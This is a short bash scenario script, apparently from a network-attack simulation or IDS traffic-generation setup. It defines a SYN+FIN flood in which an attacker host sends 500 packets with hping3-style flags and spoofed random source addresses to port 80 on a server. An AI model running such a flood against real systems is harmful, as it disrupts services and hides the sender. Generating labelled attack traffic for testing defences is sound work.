# shellcheck shell=bash
# about: SYN and FIN at once (hping3)
# type: attack
# kind: synfin_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -S -F -p 80 --rand-source
}
